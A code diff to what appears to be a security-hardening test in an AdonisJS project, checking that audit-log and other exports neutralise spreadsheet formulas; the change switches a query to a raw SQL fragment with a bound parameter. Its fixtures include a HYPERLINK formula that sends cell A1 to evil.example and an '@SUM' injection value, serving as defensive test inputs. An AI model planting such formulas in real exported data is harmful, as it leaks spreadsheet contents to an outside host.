@@ -4,6 +4,7 @@ import db from '@adonisjs/lucid/services/db'
 import { expectStatus, getAs, postAs } from '#tests/support/api'
 import { makeUser, unique } from '#tests/support/fixtures'
 import { route } from '#tests/support/route'
+import { AUDIT_USER_AGENT_SQL } from '#modules/audit/public'
 
 const NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
 const PROJECT = '@SUM(1+1)'
@@ -82,7 +83,11 @@ test.group('Hardening: no export writes a formula', () => {
       getAs(client, auditor, `${route('audit_logs.export')}?entityType=journal&limit=50`),
       200
     )
-    const stored = await db.from('audit_logs').where('user_agent', AGENT).count('* as n').first()
+    const stored = await db
+      .from('audit_logs')
+      .whereRaw(`${AUDIT_USER_AGENT_SQL} = ?`, [AGENT])
+      .count('* as n')
+      .first()
     assert.isAbove(Number(stored.n), 0)
     assert.include(audit.text(), `'${AGENT}`)
     for (const row of audit.text().split('\r\n')) {
